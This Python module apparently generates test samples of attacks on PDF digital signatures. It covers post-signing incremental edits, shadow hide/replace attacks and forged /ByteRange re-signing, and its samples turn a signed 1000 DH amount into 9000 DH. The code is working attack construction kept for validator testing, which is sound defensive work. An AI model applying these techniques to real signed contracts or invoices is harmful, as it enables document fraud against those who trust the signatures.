"""Build attack samples: incremental updates after signing, shadow documents, forged byte ranges."""

import asyncio
import hashlib
import io
import re
import struct

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter

A4 = (0, 0, 595, 842)
HELVETICA = generic.DictionaryObject({
    pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica")})})
})


def text_ops(text, y=700):
    return b"BT /F1 14 Tf 56 %d Td (%s) Tj ET" % (y, text.encode())


def write(writer) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def update(data: bytes, change) -> bytes:
    """Append an incremental update made by ``change(writer)``."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    return write(writer)


def first_page_ref(writer):
    return writer.root["/Pages"]["/Kids"].raw_get(0)


def stream(writer, data: bytes):
    return writer.add_object(generic.StreamObject(stream_data=data))


# --- incremental updates after signing -------------------------------------------------------

def add_page(data):
    def change(w):
        w.insert_page(PageObject(stream(w, text_ops("Annexe: montant 9000 DH")), A4, HELVETICA))
    return update(data, change)


def replace_text(data):
    def change(w):
        ref = first_page_ref(w)
        ref.get_object()[pdf_name("/Contents")] = stream(w, text_ops("Montant: 9000 DH"))
        w.mark_update(ref)
    return update(data, change)


def annotate(data, subtype, rect, contents, **entries):
    """Append an annotation of ``subtype`` to the first page (``entries``: more keys, named without
    their slash)."""
    def change(w):
        annot = w.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, rect)),
            pdf_name("/Contents"): pdf_string(contents),
            **{pdf_name(f"/{key}"): value for key, value in entries.items()},
        }))
        w.register_annotation(first_page_ref(w), annot)
    return update(data, change)


def add_annotation(data):
    return annotate(data, "/FreeText", (50, 600, 300, 640), "Montant corrige: 9000 DH",
                    DA=pdf_string("/Helv 12 Tf 0 g"))


def overlay(data):
    """Paint a white box over the amount and write another one on top."""
    def change(w):
        ops = b"1 g 50 690 300 40 re f 0 g " + text_ops("Montant: 9000 DH").replace(b"/F1", b"/F9")
        fonts = generic.DictionaryObject({pdf_name("/F9"): HELVETICA["/Font"]["/F1"]})
        w.add_stream_to_page(0, stream(w, ops),
                             resources=generic.DictionaryObject({pdf_name("/Font"): fonts}))
    return update(data, change)


# --- shadow documents: prepared before signing, revealed by a small update after ------------

def shadow_hide_document() -> tuple[bytes, generic.Reference]:
    """The real text (9000 DH) lies under an opaque overlay showing 1000 DH."""
    w = PdfFileWriter()
    hidden = stream(w, text_ops("Montant: 9000 DH"))
    cover = stream(w, b"1 g 40 680 400 60 re f 0 g " + text_ops("Montant: 1000 DH"))
    w.insert_page(PageObject([hidden, cover], A4, HELVETICA))
    return write(w), cover.reference


def shadow_hide(signed: bytes, cover: generic.Reference) -> bytes:
    """Empty the overlay: the hidden text shows."""
    def change(w):
        ref = generic.IndirectObject(cover.idnum, cover.generation, w)
        obj = ref.get_object()
        obj._data, obj._encoded_data = b"", None
        w.mark_update(ref)
    return update(signed, change)


def shadow_replace_document() -> bytes:
    """A text form field shows 1000 DH; its value can be replaced after signing."""
    w = PdfFileWriter()
    page = w.insert_page(PageObject(stream(w, text_ops("Montant:", 760)), A4, HELVETICA))
    appearance = w.add_object(generic.StreamObject(
        {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
         pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 200, 30))),
         pdf_name("/Resources"): HELVETICA},
        stream_data=b"BT /F1 14 Tf 2 8 Td (1000 DH) Tj ET"))
    field = w.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/FT"): pdf_name("/Tx"), pdf_name("/T"): pdf_string("amount"),
        pdf_name("/V"): pdf_string("1000 DH"), pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (140, 750, 340, 780))),
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
        pdf_name("/P"): page,
    }))
    page.get_object()[pdf_name("/Annots")] = generic.ArrayObject([field])
    w.root[pdf_name("/AcroForm")] = generic.DictionaryObject({
        pdf_name("/Fields"): generic.ArrayObject([field]),
        pdf_name("/DA"): pdf_string("/Helv 0 Tf 0 g")})
    return write(w)


def shadow_replace(signed: bytes) -> bytes:
    def change(w):
        field_ref = w.root["/AcroForm"]["/Fields"].raw_get(0)
        fld = field_ref.get_object()
        fld[pdf_name("/V")] = pdf_string("9000 DH")
        ap = w.add_object(generic.StreamObject(
            {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
             pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 200, 30))),
             pdf_name("/Resources"): HELVETICA},
            stream_data=b"BT /F1 14 Tf 2 8 Td (9000 DH) Tj ET"))
        fld[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): ap})
        w.mark_update(field_ref)
    return update(signed, change)


def shadow_hide_and_replace_document() -> tuple[bytes, generic.Reference]:
    """The signed page shows 1000 DH; an orphan content stream with 9000 DH waits in the file."""
    w = PdfFileWriter()
    w.insert_page(PageObject(stream(w, text_ops("Montant: 1000 DH")), A4, HELVETICA))
    orphan = stream(w, text_ops("Montant: 9000 DH"))
    return write(w), orphan.reference


def shadow_hide_and_replace(signed: bytes, orphan: generic.Reference) -> bytes:
    """Point the page at the orphan stream: an update of a few bytes, no new content."""
    def change(w):
        ref = first_page_ref(w)
        ref.get_object()[pdf_name("/Contents")] = generic.IndirectObject(
            orphan.idnum, orphan.generation, w)
        w.mark_update(ref)
    return update(signed, change)


# --- forged byte ranges: a genuine signature over a range of our choosing --------------------

BYTE_RANGE = re.compile(rb"/ByteRange\s*\[([\d\s]+)\]")


def resign_byte_range(data: bytes, signer, make_range) -> bytes:
    """Re-sign the last signature over ``make_range(contents_start, contents_end, size)``.

    The /ByteRange entry is rewritten in place (same width), the new ranges are digested and
    signed, and the signature is written into the /Contents placeholder: a cryptographically
    valid signature over whatever part of the file we chose.
    """
    match = list(BYTE_RANGE.finditer(data))[-1]
    _, len1, start2, _ = map(int, match.group(1).split())
    contents_start, contents_end = len1, start2  # '<' ... '>' of the /Contents hex string
    new_range = make_range(contents_start, contents_end, len(data))
    text = " ".join(map(str, new_range)).encode()
    width = len(match.group(1))
    assert len(text) <= width, "new /ByteRange does not fit"
    data = bytearray(data)
    data[match.start(1):match.end(1)] = text.ljust(width)
    a, b, c, d = new_range
    digest = hashlib.sha256(bytes(data[a:a + b]) + bytes(data[c:c + d])).digest()
    cms = asyncio.run(signer.async_sign(digest, "sha256", use_pades=True))
    hex_sig = cms.dump().hex().encode()
    slot = contents_end - contents_start - 2
    assert len(hex_sig) <= slot
    data[contents_start + 1:contents_end - 1] = hex_sig.ljust(slot, b"0")
    return bytes(data)


# --- documents as other tools write them ------------------------------------------------------

def hybrid_pdf() -> bytes:
    """A hybrid-reference file (as Word writes them): a classic xref table whose trailer points
    (/XRefStm) to a cross-reference stream listing an object kept in an object stream."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    def obj(num, body):
        offsets[num] = len(out)
        out.extend(b"%d 0 obj\n" % num + body + b"\nendobj\n")
    content = b"BT /F1 14 Tf 56 700 Td (Montant: 1000 DH) Tj ET"
    obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           b"/Resources << /Font << /F1 5 0 R >> >> >>")
    obj(4, b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    header = b"5 0 "
    objstm = header + font
    obj(6, b"<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n" % (len(header), len(objstm))
        + objstm + b"\nendstream")
    entries = struct.pack(">BIH", 2, 6, 0)
    xref_stm_offset = len(out)
    obj(7, b"<< /Type /XRef /Size 8 /W [1 4 2] /Index [5 1] /Length %d >>\nstream\n" % len(entries)
        + entries + b"\nendstream")
    xref_offset = len(out)
    def row(num):
        return b"%010d 00000 n \n" % offsets[num]
    # object 5 lives in the object stream: only the cross-reference stream lists it
    out.extend(b"xref\n0 5\n0000000000 65535 f \n" + b"".join(row(n) for n in range(1, 5))
               + b"6 2\n" + row(6) + row(7))
    out.extend(b"trailer\n<< /Size 8 /Root 1 0 R /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n"
               % (xref_stm_offset, xref_offset))
    return bytes(out)
